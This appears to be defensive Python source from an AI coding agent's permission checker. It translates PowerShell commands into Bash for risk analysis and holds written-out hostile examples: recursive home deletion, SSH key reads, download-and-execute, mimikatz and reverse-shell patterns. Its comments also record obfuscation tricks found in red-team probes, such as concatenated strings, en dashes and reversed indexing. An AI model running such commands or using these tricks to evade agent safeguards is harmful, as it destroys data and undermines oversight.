"""PowerShell read as the Bash it stands for.

A PowerShell command (Claude Code's ``PowerShell`` tool, ``pwsh -c``, ``powershell.exe
-EncodedCommand``) is translated, statement by statement, into the Bash command that does
the same thing to the same paths (``Remove-Item -Recurse -Force ~`` is ``rm -r -f ~``,
``Get-Content C:\\Users\\x\\.ssh\\id_rsa`` is ``cat /Users/x/.ssh/id_rsa``, ``iwr URL |
iex`` is ``curl URL | sh``), and the Bash analysis judges that: the destructive table,
sensitive paths, writes outside the working directory, read-only commands.

Only a small table of cmdlets with literal arguments and the parameters listed for them
is translated into a command Bash knows; a native program (``git status``) is itself.
Anything else stays unknown, and never becomes less than it is: an unknown cmdlet is an
unknown program (never read-only), and what cannot be read (a variable, a .NET call, an
expression given as an argument, code built at run time) is a command whose name is only
known at run time (asked in every mode). Code a cmdlet runs (a script block, the string
given to ``Invoke-Expression``, ``Start-Process``'s program) is translated too.
"""
from __future__ import annotations

import base64
import binascii
import contextvars
import posixpath
import re
import urllib.parse
import shlex

from policy.engine.paths import posix_spelling
from policy.engine.spelling import WINDOWS_PLACES as _CMD_DIRS

UNKNOWN = 'eval "$POWERSHELL_CODE"'   # what cannot be read: a command only known at run time
UNKNOWN_CODE = "& $unreadable"
# what Windows runs when a file is opened (Invoke-Item): programs, scripts, installers, links
_RUNNABLE = (".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".msi", ".hta", ".lnk",
             ".scr", ".pif", ".cpl", ".msc", ".appx", ".msix", ".appref-ms", ".application")   # PowerShell code that translates to UNKNOWN
_MAX_DEPTH = 6
_MAX_LEN = 100_000

# aliases PowerShell (Windows PowerShell 5 and pwsh 7) resolves before anything else
_ALIASES = {
    "rm": "remove-item", "del": "remove-item", "erase": "remove-item", "rd": "remove-item", "ri": "remove-item",
    "rmdir": "remove-item", "gci": "get-childitem", "ls": "get-childitem", "dir": "get-childitem",
    "gc": "get-content", "cat": "get-content", "type": "get-content", "sc": "set-content", "ac": "add-content",
    "ni": "new-item", "md": "new-item", "mkdir": "new-item", "cp": "copy-item", "copy": "copy-item",
    "cpi": "copy-item", "mv": "move-item", "move": "move-item", "mi": "move-item", "ren": "rename-item",
    "rni": "rename-item", "sls": "select-string", "gl": "get-location", "pwd": "get-location",
    "cd": "set-location", "sl": "set-location", "chdir": "set-location", "pushd": "push-location",
    "popd": "pop-location", "gi": "get-item", "rvpa": "resolve-path",
    "echo": "write-output", "write": "write-output", "iwr": "invoke-webrequest", "curl": "invoke-webrequest",
    "wget": "invoke-webrequest", "irm": "invoke-restmethod", "iex": "invoke-expression",
    "start": "start-process", "saps": "start-process", "icm": "invoke-command", "sajb": "start-job",
    "foreach": "foreach-object", "%": "foreach-object", "where": "where-object", "?": "where-object",
    "select": "select-object", "sort": "sort-object", "measure": "measure-object", "ft": "format-table",
    "fl": "format-list", "fw": "format-wide", "gps": "get-process", "ps": "get-process", "spps": "stop-process",
    "kill": "stop-process", "gcm": "get-command", "clc": "clear-content", "cli": "clear-item", "oh": "out-host",
    "h": "get-history", "history": "get-history", "gv": "get-variable", "gal": "get-alias", "clear": "clear-host",
    "cls": "clear-host", "ii": "invoke-item", "ipmo": "import-module", "tee": "tee-object", "group": "group-object", "diff": "compare-object",
    "compare": "compare-object", "gm": "get-member", "epcsv": "export-csv",
    # ((probe round 49, pwsh49) the built-in aliases of the registry's, services', drives' cmdlets:
    # spsv WinDefend was a program spsv where Stop-Service WinDefend is denied)
    "sp": "set-itemproperty", "rp": "remove-itemproperty", "clp": "clear-itemproperty", "rnp": "rename-itemproperty",
    "gp": "get-itemproperty", "gpv": "get-itempropertyvalue", "si": "set-item", "spsv": "stop-service",
    "sasv": "start-service", "gsv": "get-service", "ipcsv": "import-csv", "gdr": "get-psdrive", "ndr": "new-psdrive",
    "cvpa": "convert-path", "gtz": "get-timezone", "gin": "get-computerinfo", "gu": "get-unique", "sleep": "start-sleep",
}
# cmdlets that only print or filter what flows through them (their parameters are words)
_FILTERS = {"select-object", "sort-object", "measure-object", "format-table", "format-list", "format-wide",
            "out-string", "out-host", "out-null", "group-object", "get-unique", "get-member", "convertto-json",
            "convertfrom-json", "convertto-csv", "convertfrom-csv", "out-default"}
# cmdlets that print something about the session or the machine and take no path
_PRINTERS = {"get-date": "date", "get-location": "pwd", "get-process": "ps", "get-history": "true",
             "get-alias": "true", "get-variable": "true", "clear-host": "true", "get-host": "true",
             "get-psdrive": "df", "get-uptime": "uptime", "get-computerinfo": "uname -a", "hostname": "hostname",
             "whoami": "whoami", "get-culture": "true", "get-executionpolicy": "true", "get-module": "true",
             # (probe round 32, benign34) the services', volumes', network's and updates' state
             "get-service": "true", "get-volume": "df", "get-disk": "lsblk", "get-netipaddress": "ip addr",
             "get-netipconfiguration": "ip addr", "get-netadapter": "ip link", "get-nettcpconnection": "ss -tan",
             "get-netudpendpoint": "ss -uan", "get-hotfix": "true", "get-timezone": "date",
             "get-eventlog": "true",
             # (probe round 42, pwshbenign42) a wait, a random number, a new GUID, the approved verbs
             "start-sleep": "sleep 1", "get-random": "true", "new-guid": "true", "get-verb": "true",
             # (probe round 44, pwsh44) the script's own strictness
             "set-strictmode": "true",
             # (probe round 45, pwsh45) the scheduled tasks listed, as crontab -l lists a table
             "get-scheduledtask": "crontab -l", "get-scheduledtaskinfo": "crontab -l"}
_DISK = {"format-volume", "clear-disk", "initialize-disk", "remove-partition", "set-disk", "format-disk",
         "remove-physicaldisk", "clear-recyclebin"}
_POWER = {"stop-computer", "restart-computer"}
_DOWNLOAD = {"invoke-webrequest", "invoke-restmethod", "start-bitstransfer"}
# the words of an expression that fetches from the network ((New-Object Net.WebClient).DownloadString(...))
_FETCH_TEXT = re.compile(r"(?i)\b(?:invoke-webrequest|invoke-restmethod|iwr|irm|downloadstring|downloadfile|"
                         r"downloaddata|webclient|httpclient|start-bitstransfer|net\.webrequest)\b|https?://")
_HOME_VARS = re.compile(r"(?i)^(?:\$home|\$env:userprofile|\$env:home|\$\{env:userprofile\}|\$\{env:home\}|"
                        r"\$\{home\})(?=$|[\\/])")
_ROOT_VARS = re.compile(r"(?i)^(?:\$env:systemdrive|\$\{env:systemdrive\}|\$env:homedrive)(?=$|[\\/])")
# Windows' own directories by their variables ($env:APPDATA\...\Startup, $env:SystemRoot\System32)
# ((probe round 41, pwsh41) on the system drive, /c, as spelling.WINDOWS_PLACES: a rule //c/Windows/**
# meets $env:SystemRoot, which was the drive-less /Windows)
_DIR_VARS = {"appdata": "~/AppData/Roaming", "localappdata": "~/AppData/Local", "systemroot": "/c/Windows",
             "windir": "/c/Windows", "programdata": "/c/ProgramData", "allusersprofile": "/c/ProgramData",
             "programfiles": "/c/Program Files", "public": "/c/Users/Public"}
_DIR_VAR = re.compile(r"(?i)^\$(?:env:(%s)|\{env:(%s)\})(?=$|[\\/])" % (("|".join(_DIR_VARS),) * 2))
_PROFILE_VAR = re.compile(r"(?i)\$(?:profile|\{profile\})(?:\.(currentusercurrenthost|currentuserallhosts|"
                          r"allusersallhosts|alluserscurrenthost))?")
_PROFILES = {"currentusercurrenthost": "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1",
             "currentuserallhosts": "~/Documents/PowerShell/profile.ps1",
             "allusersallhosts": "'/c/Program Files/PowerShell/7/profile.ps1'",
             "alluserscurrenthost": "'/c/Program Files/PowerShell/7/Microsoft.PowerShell_profile.ps1'"}
_ENV_VAR = re.compile(r"(?i)^\$(?:env:([A-Za-z_][A-Za-z0-9_]*)|\{env:([A-Za-z_][A-Za-z0-9_]*)\})$")
_VERB_NOUN = re.compile(r"^[A-Za-z]+-[A-Za-z][\w]*$")
_NATIVE = re.compile(r"^[\w.+@/\\:-]+$")
# a filter script block that only compares properties ({ $_.Length -gt 1kb }, { $_.Name -like '*.py' })
_FILTER_ATOM = re.compile(r"(?i)^(?:\$_|\$psitem|\$pwd)(?:\.\w+)*$|^\$(?:true|false|null)$|^-[a-z]+$|"
                          r"^\d+(?:\.\d+)?(?:kb|mb|gb|tb|pb)?$|^$")
# parameters that take no value (a word after one is a positional)
_SWITCHES = ("recurse", "force", "raw", "file", "directory", "hidden", "append", "simplematch", "casesensitive",
             "notmatch", "list", "quiet", "allmatches", "descending", "unique", "wait", "whatif", "confirm",
             "verbose", "debug", "passthru", "nonewline", "usebasicparsing", "asjob", "nonewwindow", "noclobber",
             "readonly", "system", "followsymlink", "name", "expandproperty", "asstring", "stable", "leaf",
             "parent", "resolve", "isabsolute", "relative", "compress", "enumerate", "asarray", "ashashtable",
             "notypeinformation", "noheader", "useculture")


class _Unknown(Exception):
    """Text that is not read here."""


def decode_encoded(value: str) -> str | None:
    """-EncodedCommand's base64 of UTF-16LE text, or None."""
    try:
        raw = base64.b64decode(value + "=" * (-len(value) % 4), validate=True)
        return raw.decode("utf-16-le")
    except (binascii.Error, ValueError, UnicodeDecodeError):
        return None


# --- tokens ------------------------------------------------------------------------------------

# kinds: "w" bare word, "s" literal string, "v" text with expansions, "p" parameter (-Name[:value]),
# "op" one of ; | && || & > >> 2> ... , "block" {…}, "paren" (…), "sub" $(…), "arr" @(…)/@{…}
_T = tuple[str, str]


_VALUE_CAST = re.compile(r"(?i)\[(?:int|int32|int64|long|string|bool|boolean|double|decimal|float|single|char|byte|"
                         r"datetime|timespan|array|hashtable|object|xml|void)(?:\[\])?\](?=\$\w|\()")


_HERE_OPEN = re.compile(r"[ \t]*\r?\n")
# a string's $( ) that holds only a literal without $ or ` ($('C:\')) or one variable ($($d), $($env:X))
_SUB_LITERAL = re.compile(r"(?i)\$\(\s*(?:'((?:[^'$`]|'')*)'|\$((?:env:)?\w+))\s*\)")


def _tokens(src: str) -> list[_T]:
    out: list[_T] = []
    i, n = 0, len(src)
    while i < n:
        c = src[i]
        if c in " \t\r\f":
            i += 1
            continue
        if c == "`" and i + 1 < n and src[i + 1] == "\n":
            i += 2
            continue
        if c == "\n":
            out.append(("op", ";"))
            i += 1
            continue
        if c == "#":
            j = src.find("\n", i)
            i = n if j < 0 else j
            continue
        if src.startswith("<#", i):
            j = src.find("#>", i + 2)
            if j < 0:
                raise _Unknown
            i = j + 2
            continue
        if c == "@" and i + 1 < n and src[i + 1] in "'\"":
            # ((probe round 45, pwsh45) a here-string, @' ... '@ or @" ... "@: its lines, from the one after
            # the opening to the line that starts with the closing, one string (an @" "@ one expands its
            # $ and backticks, as "..." does)
            m = _HERE_OPEN.match(src, i + 2)
            if m is not None:
                q = src[i + 1]
                end = src.find("\n" + q + "@", m.end() - 1)
                if end < 0:
                    raise _Unknown
                body = src[m.end():end] if end >= m.end() else ""
                body = body[:-1] if body.endswith("\r") else body
                dyn = q == '"' and ("`" in body or re.search(r"\$[\w{(:?]", body) is not None)
                out.append(("v" if dyn else "s", body))
                i = end + 3
                continue
        if c == "'" or c in "\u2018\u2019":
            j, buf = i + 1, []
            while True:
                if j >= n:
                    raise _Unknown
                if src[j] in "'\u2018\u2019":
                    if j + 1 < n and src[j + 1] in "'\u2018\u2019":
                        buf.append("'")
                        j += 2
                        continue
                    break
                buf.append(src[j])
                j += 1
            out.append(("s", "".join(buf)))
            i = j + 1
            continue
        if c == '"' or c in "\u201c\u201d":
            j, buf, dyn = i + 1, [], False
            while True:
                if j >= n:
                    raise _Unknown
                ch = src[j]
                if ch == "`" and j + 1 < n:
                    nxt = src[j + 1]
                    if nxt == "u" and src[j + 2:j + 3] == "{":
                        # `u{20}: the character of that code point (PowerShell 6+), as
                        # PowerShell reads it ("Remove-Item`u{20}-Recurse ~" | iex)
                        close = src.find("}", j + 3, j + 11)
                        hexd = src[j + 3:close] if close > 0 else ""
                        if not hexd or not all(h in "0123456789abcdefABCDEF" for h in hexd) \
                                or int(hexd, 16) > 0x10FFFF:
                            raise _Unknown
                        buf.append(chr(int(hexd, 16)))
                        j = close + 1
                        continue
                    buf.append({"n": "\n", "t": "\t", "0": "\0", "r": "\r", "a": "\a", "e": "\x1b", "b": "\b",
                                "f": "\f", "v": "\v"}.get(nxt, nxt))
                    j += 2
                    continue
                if ch in '"\u201c\u201d':
                    if j + 1 < n and src[j + 1] in '"\u201c\u201d':
                        buf.append('"')
                        j += 2
                        continue
                    break
                if ch == "$" and j + 1 < n and (src[j + 1].isalnum() or src[j + 1] in "_{(:?"):
                    dyn = True
                buf.append(ch)
                j += 1
            text = "".join(buf)
            if dyn and "$(" in text:
                # ((probe round 51, pwsh51) "$('C:\')*", "$($d)\x": a subexpression that is only a
                # literal or a variable is its text, or the variable, in the string (a loop's or an
                # item's value written in: "$($_.Root)*" of Get-PSDrive's C:\ is C:\*)
                text = _SUB_LITERAL.sub(lambda m: m.group(1).replace("''", "'") if m.group(1) is not None
                                        else "${" + m.group(2) + "}", text)
                dyn = re.search(r"\$[\w{(:?]", text) is not None or "`" in text
            out.append(("v" if dyn else "s", text))
            i = j + 1
            continue
        if c in "{(" or (i + 1 < n and ((c == "$" and src[i + 1] == "(") or (c == "@" and src[i + 1] in "({"))):
            start = i + (1 if c in "$@" else 0)
            j = _close(src, start)
            kind = {"{": "block", "(": "paren"}[src[start]] if c not in "$@" else ("sub" if c == "$" else "arr")
            out.append((kind, src[start + 1:j]))
            i = j + 1
            # (probe round 36, windows36: $('ri -r -fo ~') is the same string as ('ri -r -fo ~'))
            if kind in ("paren", "sub") and (i >= n or src[i] not in ".["):
                folded = _folded(out[-1][1])
                if folded is not None:
                    out[-1] = ("s", folded)   # (('Remove'+'-Item'): the string it makes)
                    continue
            # a member access or call on it ((New-Object X).DownloadString(...)): one expression
            while i < n and src[i] in ".[" and kind in ("paren", "sub", "arr"):
                k = i + 1
                while k < n and (src[k].isalnum() or src[k] in "_:"):
                    k += 1
                if k < n and src[k] in "([":
                    k = _close(src, k) + 1
                # (kept apart by a NUL, which no code given to to_bash holds)
                out[-1] = (kind, out[-1][1] + ("" if "\x00" in out[-1][1] else "\x00") + src[i:k])
                i = k
            continue
        if c in "})":
            raise _Unknown
        if src.startswith(("&&", "||"), i):
            out.append(("op", src[i:i + 2]))
            i += 2
            continue
        if c in ";|&,":
            out.append(("op", c))
            i += 1
            continue
        m = re.compile(r"(?:[1-6*]?>>?(?:&[12])?|<)").match(src, i)
        if m and (c in "<>" or (i + 1 < n and src[i + 1] == ">")):
            out.append(("op", m.group(0)))
            i = m.end()
            continue
        # a bare word: up to a blank or an operator; quotes inside it join it
        j, buf, dyn = i, [], False
        while j < n and (src[j] not in " \t\r\n;|&(){},\f" or (src[j] == "{" and j > i and src[j - 1] in "\\/")) \
                and not (src[j] in "<>"):
            ch = src[j]
            if ch == "`" and j + 1 < n:
                buf.append(src[j + 1])
                j += 2
                continue
            if ch in "'\"":
                sub = _tokens(src[j:_string_end(src, j) + 1])
                if len(sub) != 1:
                    raise _Unknown
                dyn = dyn or sub[0][0] == "v"
                buf.append(sub[0][1])
                j = _string_end(src, j) + 1
                continue
            if ch == "$":
                dyn = True
                if j + 1 < n and src[j + 1] == "{":   # ${env:USERPROFILE}: a variable's braced name
                    k = src.find("}", j)
                    if k < 0:
                        raise _Unknown
                    buf.append(src[j:k + 1])
                    j = k + 1
                    continue
            if ch == "[" and not buf and _VALUE_CAST.match(src, j):
                # (probe round 43, pwsh43) [int]$n = 5, [string[]]$names: a variable's value type, a
                # conversion of the value only (never [scriptblock], a constructor, a .NET call)
                # ((probe round 44, pwsh44) [xml](Get-Content x.xml), [xml]$cfg = ...: a value's
                # conversion too, the (...) read as itself)
                j = _VALUE_CAST.match(src, j).end()
                if j < n and src[j] == "(":
                    break
                continue
            if ch == "[" and not buf:
                raise _Unknown   # [IO.File]::WriteAllText(...): a .NET call
            if ch == "{" and buf and buf[-1] in "\\/":
                # (probe round 37, pwsh37) a path's {GUID} segment, unquoted (reg add
                # HKCU\Software\Classes\CLSID\{GUID}\InprocServer32, HKCU:\...\{GUID}): part of
                # the word the program is given, not a script block (the key was split at the brace)
                k = _close(src, j)
                buf.append(src[j:k + 1])
                j = k + 1
                continue
            buf.append(ch)
            j += 1
        word = "".join(buf)
        if not word and j < n and src[j] == "(" and j > i:
            i = j   # (a conversion before a (...): the (...) itself)
            continue
        if word == "!" and j < n and src[j] == "(" and (not out or out[-1][0] in ("op", "p") or out[-1] == ("w", "!")):
            out.append(("w", "!"))   # (!(Test-Path x): the value turned; probe round 44)
            i = j
            continue
        if j < n and src[j] == "(" and word and not word.startswith("-") and word not in (".", "&") \
                and word.lower() not in _KEYWORDS and not (
                    len(out) > 0 and out[-1][0] == "w" and out[-1][1].lower() in ("function", "filter")):
            raise _Unknown   # a method call (x.Delete()) or an expression (not function f($p) { … }'s name)
        if word[:1] in _DASHES and len(word) > 1 and word[1].isalpha():
            # (PowerShell reads an en dash, em dash or horizontal bar as the dash of a
            # parameter: Remove-Item \u2013Recurse \u2013Force ~; probe round 32, windows32)
            out.append(("p", "-" + word[1:]))
        else:
            if not dyn and "\\" in word:
                # Microsoft.PowerShell.Utility\Invoke-Expression: a cmdlet named with its module
                # is that cmdlet (probe round 29, redteam29d)
                m = _MODULE_CMDLET.fullmatch(word)
                word = m.group(1) if m else word
            out.append(("v" if dyn else "w", word))
        i = j
    return out


# the dashes PowerShell's tokenizer takes as '-' before a parameter's name
_DASHES = frozenset("-\u2013\u2014\u2015")


# a cmdlet named with its module (Microsoft.PowerShell.Management\Remove-Item)
_MODULE_CMDLET = re.compile(r"(?i)(?:Microsoft(?:\.[A-Za-z]+)+|CimCmdlets|PSReadLine|PSDiagnostics|ThreadJob|"
                            r"PowerShellGet|PackageManagement)\\([A-Za-z]+-[A-Za-z]+)")


_CONCAT = re.compile(r"""\s*(?:'(?:[^']|'')*'|"[^"$`]*")(?:\s*\+\s*(?:'(?:[^']|'')*'|"[^"$`]*"))*\s*""")
_CONCAT_PART = re.compile(r"'((?:[^']|'')*)'|\"([^\"$`]*)\"")


# statements whose word a parenthesis follows (while(1){…}, if($x){…})
_KEYWORDS = frozenset({"while", "for", "foreach", "if", "elseif", "switch", "until", "catch", "function", "param"})


def _folded(expr: str) -> str | None:
    """The text an expression of literal strings joined with + makes ('Re'+'move-Item'),
    or None. Probe round 31: also what PowerShell's string operators make of literals: -f
    ('{0}-{1}' -f 'Remove','Item'), -join (unary and binary), -replace, [char] and [char[]]
    casts of numbers, commas' arrays, parentheses and @(...)."""
    if _CONCAT.fullmatch(expr):
        return "".join(m.group(1).replace("''", "'") if m.group(1) is not None else m.group(2)
                       for m in _CONCAT_PART.finditer(expr))
    if len(expr) > 20_000 or not _FOLD_HINT.search(expr):
        return None
    try:
        toks = [t for t in _FOLD_TOKEN.findall(expr) if not t.isspace()]
        if sum(t in ("(", "@(") or t.lower() == "-join" or t.startswith("[") for t in toks) > 100:
            return None   # (nested deeper than code is written: not folded, stays unknown)
        value, k = _fold_binary(toks, 0, 0)
        if k != len(toks):
            return None
    except (_Unknown, IndexError, ValueError, OverflowError, re.error, RecursionError):
        return None
    return value if isinstance(value, str) else None


_FOLD_HINT = re.compile(r"(?i)-(?:f|join|[ci]?replace)\b|\[char|\[-?\d+\s*(?:\.\.|\])|::\s*(?:join|concat)\s*\(")
# a string (no expansion in "..."), a number, an operator, a cast, a bracket
# ((probe round 52, pwsh52) an index or a range of indexes after a value, 'fr- mr'[-1..-10] (a reversed
# text), and [string]::Join / [string]::Concat of literals)
_FOLD_TOKEN = re.compile(r"""(?i)'(?:[^'\u2018\u2019]|'')*'|"[^"$`]*"|0x[0-9a-f]+|\d+|-(?:join|f|[ci]?replace)\b|"""
                         r"""\[\s*-?\d+\s*(?:\.\.\s*-?\d+\s*)?\]|\[(?:system\.)?string\]::\s*(?:join|concat)\s*\(|"""
                         r"""\[(?:char|string|char\[\]|string\[\])\]|@\(|[(),+]|\s+|.""")
_FOLD_INDEX = re.compile(r"\[\s*(-?\d+)\s*(?:\.\.\s*(-?\d+)\s*)?\]")
_FOLD_BINARY = ("-join", "-replace", "-ireplace", "-creplace")


def _fold_binary(toks: list[str], i: int, level: int):
    """Precedence climbing over PowerShell's levels: 0 -join/-replace, 1 +, 2 -f, 3 comma, 4 unary."""
    if level == 3:
        items = []
        value, i = _fold_binary(toks, i, 4)
        items.append(value)
        while i < len(toks) and toks[i] == ",":
            value, i = _fold_binary(toks, i + 1, 4)
            items.append(value)
        return (items[0] if len(items) == 1 else [x for x in items]), i
    if level == 4:
        return _fold_unary(toks, i)
    left, i = _fold_binary(toks, i, level + 1)
    ops = {0: _FOLD_BINARY, 1: ("+",), 2: ("-f",)}[level]
    while i < len(toks) and toks[i].lower() in ops:
        op = toks[i].lower()
        right, i = _fold_binary(toks, i + 1, level + 1)
        left = _fold_apply(op, left, right)
    return left, i


def _fold_unary(toks: list[str], i: int):
    value, i = _fold_primary(toks, i)
    while i < len(toks) and toks[i][:1] == "[" and toks[i][-1:] == "]" and (m := _FOLD_INDEX.fullmatch(toks[i])):
        # ('abc'[-1..-3], ('a','b')[0]: the items at those places, those past the end left out)
        lo = int(m.group(1))
        hi = int(m.group(2)) if m.group(2) is not None else lo
        if abs(hi - lo) > 100_000 or isinstance(value, int):
            raise _Unknown
        seq = value if isinstance(value, (list, str)) else _raise()
        picked = [seq[x] for x in range(lo, hi + (1 if hi >= lo else -1), 1 if hi >= lo else -1)
                  if -len(seq) <= x < len(seq)]
        value = picked[0] if m.group(2) is None and picked else picked if m.group(2) is not None else _raise()
        i += 1
    return value, i


def _fold_primary(toks: list[str], i: int):
    t = toks[i]
    low = t.lower()
    if low == "-join":
        value, i = _fold_unary(toks, i + 1)
        return "".join(_fold_str(x) for x in (value if isinstance(value, list) else [value])), i
    if low in ("[char]", "[string]", "[char[]]", "[string[]]"):
        value, i = _fold_unary(toks, i + 1)
        if low == "[char]":
            if isinstance(value, list):
                raise _Unknown
            return (chr(value) if isinstance(value, int) else value if len(value) == 1 else _raise()), i
        if low == "[char[]]":
            vals = value if isinstance(value, list) else list(value) if isinstance(value, str) else [value]
            return [chr(v) if isinstance(v, int) else v for v in vals], i
        if low == "[string]":
            return (" ".join(_fold_str(x) for x in value) if isinstance(value, list) else _fold_str(value)), i
        return ([_fold_str(x) for x in value] if isinstance(value, list) else [_fold_str(value)]), i
    if t[:1] == "[" and t[-1:] == "(":
        # ([string]::Join(SEP, 'a','b') or (SEP, @('a','b')), [string]::Concat('a','b'))
        args, i = _fold_binary(toks, i + 1, 0)
        if toks[i] != ")":
            raise _Unknown
        args = args if isinstance(args, list) else [args]
        if "join" in low:
            rest = args[1:]
            items = rest[0] if len(rest) == 1 and isinstance(rest[0], list) else rest
            return _fold_str(args[0]).join(_fold_str(x) for x in items), i + 1
        return "".join(_fold_str(x) for x in args), i + 1
    if t in ("(", "@("):
        if toks[i + 1] == ")":
            return [], i + 2
        value, i = _fold_binary(toks, i + 1, 0)
        if toks[i] != ")":
            raise _Unknown
        return (value if t == "(" or isinstance(value, list) else [value]), i + 1
    if t[0] == "'":
        return t[1:-1].replace("''", "'"), i + 1
    if t[0] == '"':
        return t[1:-1], i + 1
    if t.isdigit():
        return int(t), i + 1
    if low.startswith("0x"):
        return int(t, 16), i + 1
    raise _Unknown


def _raise():
    raise _Unknown


def _fold_str(v) -> str:
    if isinstance(v, list):
        return " ".join(_fold_str(x) for x in v)
    return str(v)


def _fold_apply(op: str, left, right):
    if op == "+":
        if isinstance(left, list):
            return left + (right if isinstance(right, list) else [right])
        if isinstance(left, int) and isinstance(right, int):
            return left + right
        if isinstance(left, str):
            return left + _fold_str(right)
        raise _Unknown
    if op == "-f":
        args = right if isinstance(right, list) else [right]

        def fmt(m: re.Match) -> str:
            if m.group(0) in ("{{", "}}"):
                return m.group(0)[0]
            return _fold_str(args[int(m.group(1))])
        if not isinstance(left, str) or len(left) * max([1] + [len(_fold_str(a)) for a in args]) > 4_000_000:
            raise _Unknown   # (a text that would grow past any command's length)
        return re.sub(r"\{\{|\}\}|\{(\d+)(?:,-?\d+)?(?::[^}]*)?\}", fmt, left)
    if op == "-join":
        parts = left if isinstance(left, list) else [left]
        if len(parts) * len(_fold_str(right)) > 1_000_000:
            raise _Unknown
        return _fold_str(right).join(_fold_str(x) for x in parts)
    # -replace PATTERN[, REPLACEMENT]: a regular expression, case ignored but for -creplace
    pat, rep = (right + [""])[:2] if isinstance(right, list) else (right, "")
    if not isinstance(left, str) or "$" in _fold_str(rep) or re.search(r"[\\.^$*+?()\[\]{}|]", _fold_str(pat)):
        raise _Unknown   # (a pattern with a regular expression's operators is not run here: no backtracking)
    return re.sub(re.escape(_fold_str(pat)), lambda _: _fold_str(rep), left, flags=0 if op == "-creplace" else re.I)


def _string_end(src: str, i: int) -> int:
    q = src[i]
    j = i + 1
    while j < len(src):
        if src[j] == "`" and q == '"':
            j += 2
            continue
        if src[j] == q:
            if j + 1 < len(src) and src[j + 1] == q:
                j += 2
                continue
            return j
        j += 1
    raise _Unknown


def _inner_blocks(src: str) -> list[str]:
    """The bodies of the script blocks an expression's text holds ({ ... } in @( ... ),
    @{ k = { ... } }, a list of blocks), outside its strings."""
    out, i = [], 0
    while i < len(src):
        c = src[i]
        if c in "'\"":
            i = _string_end(src, i) + 1
            continue
        if c == "{" and src[i - 1:i] != "@":
            j = _close(src, i)
            out.append(src[i + 1:j])
            i = j + 1
            continue
        i += 1
    return out


def _close(src: str, i: int) -> int:
    """The index of the bracket that closes src[i], strings and nesting followed."""
    pairs = {"(": ")", "{": "}", "[": "]"}
    stack = [pairs[src[i]]]
    j = i + 1
    while j < len(src):
        c = src[j]
        if c in "'\"":
            j = _string_end(src, j) + 1
            continue
        if c == "`":
            j += 2
            continue
        if c in pairs:
            stack.append(pairs[c])
        elif c in ")}]":
            if c != stack.pop():
                raise _Unknown
            if not stack:
                return j
        j += 1
    raise _Unknown


# --- statements --------------------------------------------------------------------------------

_EC_GET_COMMAND = re.compile(r"(?i)\$executioncontext\s*\.\s*invokecommand\s*\.\s*get(?:command|cmdlet)\s*\(\s*"
                             r"('[^']*'|\"[^\"$`]*\")\s*(?:,[^()]*)?\)")
_EC_SET_VARIABLE = re.compile(r"(?i)\$executioncontext\s*\.\s*sessionstate\s*\.\s*psvariable\s*\.\s*set\s*\(\s*"
                              r"('[^']*'|\"[^\"$`]*\")\s*,\s*('[^']*'|\"[^\"$`]*\"|\{(?:[^{}]|\{[^{}]*\})*\})\s*\)")


# (probe round 52, pwsh52) .SessionState.Path's resolvers (GetUnresolvedProviderPathFromPSPath('~')) give the
# place named: the path given, as the provider reads it (~ the home, a relative path the working directory's)
_EC_PROVIDER_PATH = re.compile(r"""(?i)\$executioncontext\s*\.\s*sessionstate\s*\.\s*path\s*\.\s*"""
                               r"""get(?:un)?resolved(?:provider|ps)pathfrompspath\(\s*('[^']*'|"[^"`$]*"|\$[\w:{}]+)\s*\)""")


def _statements(code: str) -> list[str] | None:
    """(probe round 38, pwsh38) The top-level statements of code (split at ; and newlines
    outside strings, brackets and blocks); None when its strings or brackets cannot be followed."""
    if "@'" in code or '@"' in code:
        return None
    out, start, i = [], 0, 0
    try:
        while i < len(code):
            c = code[i]
            if c in "'\"":
                i = _string_end(code, i) + 1
                continue
            if c == "`":
                i += 2
                continue
            if c in "({[":
                i = _close(code, i) + 1
                continue
            if c == "#" and (i == 0 or code[i - 1] in " \t;\n"):
                j = code.find("\n", i)
                out.append(code[start:i])
                i = start = len(code) if j < 0 else j
                continue
            if c in ";\n":
                out.append(code[start:i])
                start = i + 1
            i += 1
    except (_Unknown, IndexError):
        return None
    out.append(code[start:])
    return [x for x in out if x.strip()]


# (probe round 42, pwshbenign42) the working directory's drive letter, where the call gives one: a path
# from the root (\Windows\win.ini) is on that drive, as Windows reads it
_CWD_DRIVE: contextvars.ContextVar = contextvars.ContextVar("powershell_drive", default=None)


def _on_drive(drive: str | None, reader, *args, **kwargs):
    """``reader(*args, **kwargs)`` beside a working directory on ``drive`` (paths.windows_drive's
    letter, or None): a drive-less path (\\Windows) is read on that drive."""
    if drive is None:
        return reader(*args, **kwargs)
    token = _CWD_DRIVE.set(drive)
    try:
        return reader(*args, **kwargs)
    finally:
        _CWD_DRIVE.reset(token)


def to_bash_on(code: str, drive: str | None) -> str:
    """to_bash beside a working directory on ``drive``."""
    return _on_drive(drive, to_bash, code)


def cmd_to_bash_on(line: str, drive: str | None) -> str:
    """cmd_to_bash beside a working directory on ``drive``."""
    return _on_drive(drive, cmd_to_bash, line)


def windows_program_on(argv: list[str], drive: str | None, piped: bool = False) -> str | None:
    """windows_program beside a working directory on ``drive``."""
    return _on_drive(drive, windows_program, argv, piped=piped)


def windows_line_to_bash_on(line: str, drive: str | None) -> str:
    """windows_line_to_bash beside a working directory on ``drive``."""
    return _on_drive(drive, windows_line_to_bash, line)


def to_bash(code: str, depth: int = 0) -> str:
    """The Bash command that stands for this PowerShell code (UNKNOWN parts where it
    cannot be read)."""
    if depth > _MAX_DEPTH or len(code) > _MAX_LEN or (depth == 0 and "\x00" in code):
        return UNKNOWN
    if depth == 0 and "::" in code and _MIMIKATZ_TEXT.search(code):
        # (probe round 33, residuals34) mimikatz' commands, whatever the program is called
        # (C:\Tools\m.exe 'sekurlsa::logonpasswords', Invoke-Mimikatz -Command 'lsadump::sam')
        return "mimikatz; " + to_bash(code, 1)
    if _PS_SOCKET.search(code) and _PS_RUNS_READ.search(code):
        # (probe round 35, published9) a TCP client or listener whose data is run (Nishang's
        # and revshells' one-liners: iex $data, Invoke-Expression, [scriptblock]::Create,
        # a cmd/powershell process with its standard input redirected): a reverse or bind shell
        return REMOTE_SHELL
    if "\x00" in code:
        # an expression and the member it calls ((Get-Item C:\\).Delete($true))
        expr, _, member = code.partition("\x00")
        if _FETCH_TEXT.search(code):
            # ((New-Object Net.WebClient).DownloadString(URL), (iwr URL).Content: what is fetched)
            saved = _download_file(member, depth)
